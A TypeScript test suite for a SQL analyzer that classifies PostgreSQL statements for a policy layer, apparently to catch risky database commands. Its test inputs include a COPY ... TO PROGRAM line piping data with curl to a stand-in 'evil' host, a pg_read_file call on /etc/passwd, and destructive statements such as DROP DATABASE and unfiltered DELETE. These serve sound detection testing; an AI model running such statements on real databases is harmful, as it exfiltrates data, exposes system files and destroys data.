import assert from "node:assert/strict";
import { analyzeSql, analyzeUncached, literalShape, loadSqlParser } from "./sql.js";
import type { SqlStatement } from "../policy/command.js";

function one(text: string): SqlStatement {
  const cmd = analyzeSql(text);
  assert.equal(cmd.parseError, undefined, cmd.parseError);
  assert.equal(cmd.statements.length, 1);
  return cmd.statements[0]!;
}

describe("analyzeSql", () => {
  before(async () => {
    await loadSqlParser();
    await loadSqlParser(); // idempotent
  });

  it("recognises DROP DATABASE as DDL", () => {
    const s = one("DROP DATABASE prod");
    assert.equal(s.kind, "drop_database");
    assert.equal(s.node, "DropdbStmt");
    assert.equal(s.ddl, true);
  });

  it("flags DELETE and UPDATE without WHERE", () => {
    const d = one("DELETE FROM users");
    assert.equal(d.kind, "delete");
    assert.equal(d.hasWhere, false);
    assert.deepEqual(d.tablesWritten, ["users"]);
    assert.deepEqual(d.tablesRead, []);
    assert.equal(d.ddl, false);
    assert.equal(one("DELETE FROM users WHERE id = 1").hasWhere, true);
    const u = one("UPDATE t SET a=1");
    assert.equal(u.kind, "update");
    assert.equal(u.hasWhere, false);
    assert.equal(one("UPDATE t SET a=1 WHERE b=2").hasWhere, true);
    assert.equal(one("SELECT 1").hasWhere, true);
  });

  it("reports data-modifying CTEs as nested statements", () => {
    const s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert.equal(s.kind, "select");
    assert.equal(s.hasWhere, false);
    assert.deepEqual(s.tablesWritten, ["t"]);
    assert.deepEqual(s.tablesRead, [], "the CTE name d is not a table");
    assert.equal(s.nested.length, 1);
    assert.equal(s.nested[0]!.kind, "delete");
    assert.equal(s.nested[0]!.hasWhere, false);
    assert.deepEqual(s.nested[0]!.tablesWritten, ["t"]);
  });

  it("scopes CTE names: a non-recursive CTE body reading its own name reads the real table", () => {
    const s = one("WITH users AS (SELECT * FROM users) SELECT * FROM users");
    assert.deepEqual(s.tablesRead, ["users"]);
    const w = one("WITH users AS (SELECT 1) DELETE FROM users WHERE true");
    assert.deepEqual(w.tablesWritten, ["users"], "a write target is never a CTE");
    const r = one("WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r, s");
    assert.deepEqual(r.tablesRead, ["s"]);
  });

  it("splits multi-statement input with each statement's own text", () => {
    const cmd = analyzeSql("select 1; drop table x;");
    assert.equal(cmd.statements.length, 2);
    assert.equal(cmd.statements[0]!.kind, "select");
    assert.equal(cmd.statements[0]!.text, "select 1");
    assert.equal(cmd.statements[1]!.kind, "drop_table");
    assert.equal(cmd.statements[1]!.text, "drop table x");
    assert.deepEqual(cmd.statements[1]!.tablesWritten, ["x"]);
    assert.equal(cmd.text, "select 1; drop table x;");
  });

  it("slices statement text by UTF-8 byte offsets", () => {
    const cmd = analyzeSql("select 'é€'; delete from t");
    assert.equal(cmd.statements[0]!.text, "select 'é€'");
    assert.equal(cmd.statements[1]!.text, "delete from t");
  });

  it("maps administrative statements", () => {
    assert.equal(one("ALTER SYSTEM SET work_mem = '1GB'").kind, "alter_system");
    assert.equal(one("ALTER SYSTEM SET work_mem = '1GB'").ddl, true);
    assert.equal(one("TRUNCATE a, s.b").kind, "truncate");
    assert.deepEqual(one("TRUNCATE a, s.b").tablesWritten, ["a", "s.b"]);
    assert.equal(one("TRUNCATE a").ddl, true);
    assert.equal(one("GRANT SELECT ON t TO bob").kind, "grant");
    assert.equal(one("REVOKE SELECT ON t FROM bob").kind, "revoke");
    assert.equal(one("GRANT admin TO bob").kind, "grant");
    assert.equal(one("DO $$ BEGIN PERFORM 1; END $$").kind, "do");
    assert.equal(one("CREATE ROLE r").kind, "create_role");
    assert.equal(one("ALTER ROLE r SUPERUSER").kind, "alter_role");
    assert.equal(one("DROP ROLE r").kind, "drop_role");
    assert.equal(one("CREATE DATABASE d").kind, "create_database");
    assert.equal(one("CREATE SCHEMA s").kind, "create_schema");
    assert.equal(one("DROP SCHEMA s CASCADE").kind, "drop_schema");
    assert.equal(one("CREATE INDEX i ON t (a)").kind, "create_index");
    assert.equal(one("DROP INDEX i").kind, "drop_index");
    assert.equal(one("ALTER TABLE t ADD COLUMN c int").kind, "alter_table");
    assert.deepEqual(one("ALTER TABLE t ADD COLUMN c int").tablesWritten, ["t"]);
    assert.equal(one("ALTER TABLE t RENAME TO u").kind, "alter_table");
    assert.equal(one("ALTER TABLE t SET SCHEMA s").kind, "alter_table");
    assert.equal(one("CREATE TABLE t (a int)").kind, "create_table");
    assert.equal(one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'").kind, "create_function");
    assert.equal(one("CREATE VIEW v AS SELECT 1").kind, "ddl_other");
    assert.equal(one("CREATE VIEW v AS SELECT 1").ddl, true);
    assert.equal(one("DROP VIEW v").kind, "ddl_other");
    assert.equal(one("COMMENT ON TABLE t IS 'x'").kind, "ddl_other");
    assert.equal(one("CALL p(1)").kind, "call");
    assert.deepEqual(one("CALL p(1)").functions, ["p"]);
    assert.equal(one("SET search_path = x").kind, "set");
    assert.equal(one("SHOW search_path").kind, "show");
    assert.equal(one("LISTEN c").kind, "listen");
    assert.equal(one("NOTIFY c").kind, "notify");
    assert.equal(one("VACUUM ANALYZE t").kind, "vacuum");
    assert.equal(one("EXECUTE p(1)").kind, "execute");
    assert.equal(one("CHECKPOINT").kind, "other");
    assert.equal(one("CHECKPOINT").ddl, false);
  });

  it("maps transaction control", () => {
    const kinds = analyzeSql(
      "BEGIN; SAVEPOINT a; ROLLBACK TO SAVEPOINT a; RELEASE a; COMMIT; START TRANSACTION; ROLLBACK",
    ).statements.map((s) => s.kind);
    assert.deepEqual(kinds, ["begin", "savepoint", "rollback", "savepoint", "commit", "begin", "rollback"]);
  });

  it("distinguishes COPY directions and COPY … PROGRAM", () => {
    const p = one("COPY t TO PROGRAM 'curl -d @- http://evil'");
    assert.equal(p.kind, "copy_program");
    assert.equal(one("COPY t FROM PROGRAM 'id'").kind, "copy_program");
    const from = one("COPY t FROM STDIN");
    assert.equal(from.kind, "copy_from");
    assert.deepEqual(from.tablesWritten, ["t"]);
    const to = one("COPY t TO STDOUT");
    assert.equal(to.kind, "copy_to");
    assert.deepEqual(to.tablesRead, ["t"]);
    assert.deepEqual(to.tablesWritten, []);
    const q = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
    assert.equal(q.nested[0]?.kind, "delete");
    assert.equal(q.hasWhere, false);
  });

  it("sees the target of EXPLAIN and PREPARE", () => {
    const e = one("EXPLAIN ANALYZE DELETE FROM t");
    assert.equal(e.kind, "explain");
    assert.equal(e.nested.length, 1);
    assert.equal(e.nested[0]!.kind, "delete");
    assert.equal(e.hasWhere, false);
    const p = one("PREPARE q AS UPDATE t SET a = $1 WHERE id = $2");
    assert.equal(p.kind, "prepare");
    assert.equal(p.nested[0]!.kind, "update");
    assert.equal(p.nested[0]!.hasWhere, true);
    assert.equal(one("EXPLAIN SELECT 1").nested[0]!.kind, "select");
  });

  it("separates tables read from tables written", () => {
    const j = one('SELECT * FROM a JOIN public.b ON a.id = b.id WHERE a.x IN (SELECT x FROM "Weird"."C")');
    assert.deepEqual(j.tablesRead, ["a", "public.b", "Weird.C"]);
    assert.deepEqual(j.tablesWritten, []);
    const i = one("INSERT INTO audit.log SELECT * FROM events e WHERE e.id > 1");
    assert.equal(i.kind, "insert");
    assert.deepEqual(i.tablesWritten, ["audit.log"]);
    assert.deepEqual(i.tablesRead, ["events"]);
    const u = one("UPDATE t SET a = s.a FROM s WHERE t.id = s.id");
    assert.deepEqual(u.tablesWritten, ["t"]);
    assert.deepEqual(u.tablesRead, ["s"]);
    const d = one("DELETE FROM t USING u WHERE t.id = u.id");
    assert.deepEqual(d.tablesRead, ["u"]);
    const m = one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE");
    assert.equal(m.kind, "merge");
    assert.deepEqual(m.tablesWritten, ["t"]);
    assert.deepEqual(m.tablesRead, ["s"]);
    const into = one("SELECT * INTO newt FROM users");
    assert.equal(into.kind, "create_table");
    assert.deepEqual(into.tablesWritten, ["newt"]);
    assert.deepEqual(into.tablesRead, ["users"]);
    const u2 = one("SELECT a FROM x UNION SELECT b FROM y");
    assert.deepEqual(u2.tablesRead, ["x", "y"]);
    assert.deepEqual(one("DROP TABLE s.x, y").tablesWritten, ["s.x", "y"]);
  });

  it("lists called functions", () => {
    assert.deepEqual(one("SELECT pg_read_file('/etc/passwd')").functions, ["pg_read_file"]);
    assert.deepEqual(one("SELECT pg_catalog.pg_read_file('/etc/passwd')").functions, ["pg_catalog.pg_read_file"]);
    assert.deepEqual(one("SELECT * FROM pg_sleep(10)").functions, ["pg_sleep"]);
    assert.deepEqual(one("SELECT count(*) FROM t WHERE lower(n) = 'x'").functions, ["count", "lower"]);
  });

  it("reports unparseable SQL without throwing", () => {
    const cmd = analyzeSql("selec * form t");
    assert.deepEqual(cmd.statements, []);
    assert.match(cmd.parseError ?? "", /syntax error/);
    assert.equal(cmd.text, "selec * form t");
    const empty = analyzeSql("  ");
    assert.deepEqual(empty.statements, []);
    assert.equal(empty.parseError, undefined);
  });

  it("caches results and freezes them", () => {
    const text = "SELECT abalance FROM pgbench_accounts WHERE aid = 42";
    const a = analyzeSql(text);
    const b = analyzeSql(text);
    assert.equal(a, b);
    assert.ok(Object.isFrozen(a));
    assert.ok(Object.isFrozen(a.statements[0]));
    assert.ok(Object.isFrozen(a.statements[0]!.tablesRead));
    const started = performance.now();
    for (let i = 0; i < 10_000; i++) analyzeSql(text);
    assert.ok(performance.now() - started < 200, "cached lookups are cheap");
  });

  describe("statements that differ only in integer literals", () => {
    it("shapes only integer literals outside names and numbers", () => {
      assert.equal(
        literalShape("SELECT abalance FROM pgbench_accounts WHERE aid = 12345;"),
        "SELECT abalance FROM pgbench_accounts WHERE aid = 0;",
      );
      assert.equal(literalShape("SELECT * FROM t1 LIMIT 10 OFFSET 20"), "SELECT * FROM t1 LIMIT 0 OFFSET 0");
      assert.equal(
        literalShape("SELECT a FROM t WHERE b IN (1,2,-3) AND c::varchar(16) = d"),
        "SELECT a FROM t WHERE b IN (0,0,-0) AND c::varchar(0) = d",
      );
      // Decimals, exponents, hex, underscores, names with digits and ICONST overflow stay as written.
      for (const text of [
        "SELECT 1.5",
        "SELECT .5",
        "SELECT 5.",
        "SELECT 1e5",
        "SELECT 0x1F",
        "SELECT 1_000",
        "SELECT t2.c3 FROM t2",
        "SELECT 1234567890",
      ]) {
        assert.equal(literalShape(text), undefined, text);
      }
      // Anything the shape could misread is left to the parser.
      for (const text of [
        "SELECT 1 -- 2",
        "SELECT /* 1 */ 2",
        "SELECT '1'",
        'SELECT 1 AS "2"',
        "SELECT $1",
        "SELECT $$1$$",
        "SELECT E\\'1\\'",
        "SELECT 1 AS ü",
        "SELECT a",
      ]) {
        assert.equal(literalShape(text), undefined, text);
      }
    });

    it("share one analysis, each with its own text", () => {
      const a = analyzeSql("DELETE FROM shaped_a WHERE id = 1 RETURNING id");
      const b = analyzeSql("DELETE FROM shaped_a WHERE id = 987654 RETURNING id");
      assert.notEqual(a, b);
      assert.equal(b.text, "DELETE FROM shaped_a WHERE id = 987654 RETURNING id");
      assert.equal(b.statements[0]!.text, b.text);
      const c = analyzeSql("DELETE FROM shaped_a WHERE id = 5 RETURNING id;");
      const d = analyzeSql("DELETE FROM shaped_a WHERE id = 6 RETURNING id;");
      assert.equal(d.statements[0]!.text, "DELETE FROM shaped_a WHERE id = 6 RETURNING id");
      assert.equal(d.statements[0]!.tablesRead, c.statements[0]!.tablesRead, "a terminating ; has its own shape");
      assert.deepEqual({ ...b.statements[0], text: "" }, { ...a.statements[0], text: "" });
      assert.equal(b.statements[0]!.tablesRead, a.statements[0]!.tablesRead, "the analysis itself is shared");
      assert.ok(Object.isFrozen(b) && Object.isFrozen(b.statements) && Object.isFrozen(b.statements[0]));
    });

    it("give the parser's own answer in every position an integer can take", () => {
      const templates = [
        "SELECT c FROM t WHERE id = N",
        "SELECT c FROM t ORDER BY N LIMIT N OFFSET N",
        "SELECT c FROM t WHERE id IN (N, N, N) FOR UPDATE",
        "SELECT c::varchar(N), c::numeric(N, N) FROM t",
        "SELECT * FROM t FETCH FIRST N ROWS ONLY",
        "FETCH N FROM cur",
        "MOVE FORWARD N IN cur",
        "UPDATE t SET a = a + N WHERE id = N",
        "DELETE FROM t WHERE id > N",
        "INSERT INTO t VALUES (N, N)",
        "CREATE TABLE tN (a int, b varchar(N))",
        "ALTER SEQUENCE s INCREMENT BY N RESTART WITH N",
        "SET statement_timeout = N",
        "SELECT pg_sleep(N)",
        "SELECT N",
        "EXPLAIN SELECT N",
        "DROP TABLE tN",
      ];
      for (const template of templates) {
        for (const ending of ["", ";", " ; ", ";;\n", "\t"]) {
          for (const value of ["0", "7", "42", "999999999", "000000001"]) {
            const text = `  ${template.replaceAll("N", value)}${ending}`;
            const shaped = analyzeSql(text);
            assert.deepEqual(shaped, analyzeUncached(text), JSON.stringify(text));
          }
        }
      }
    });

    it("never lets a parse error or another statement through a shape", () => {
      assert.ok(analyzeSql("SELEC 1").parseError);
      assert.ok(analyzeSql("SELEC 2").parseError);
      analyzeSql("SELECT 1; SELECT 2");
      const multi = analyzeSql("SELECT 3; SELECT 4");
      assert.deepEqual(
        multi.statements.map((st) => st.text),
        ["SELECT 3", "SELECT 4"],
      );
      analyzeSql("DELETE FROM t WHERE id = 1");
      assert.equal(analyzeSql("DELETE FROM t").statements[0]!.hasWhere, false);
    });
  });
});
